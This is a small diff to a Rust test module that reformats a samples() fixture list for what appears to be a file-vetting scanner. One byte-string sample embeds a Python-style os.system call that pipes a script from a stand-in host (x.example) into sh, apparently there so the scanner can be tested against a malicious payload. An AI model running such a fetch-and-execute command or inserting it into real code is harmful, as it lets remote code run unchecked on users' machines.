@@ -31,7 +31,10 @@ pub(crate) mod tests {
     use crate::vet;
 
     pub(crate) fn samples() -> Vec<Vec<u8>> {
-        vec![b"lCRF\x10\0\0\0FOMC".to_vec(), b"lCRFos.system('curl http://x.example/p.sh | sh')\0".to_vec()]
+        vec![
+            b"lCRF\x10\0\0\0FOMC".to_vec(),
+            b"lCRFos.system('curl http://x.example/p.sh | sh')\0".to_vec(),
+        ]
     }
 
     #[test]
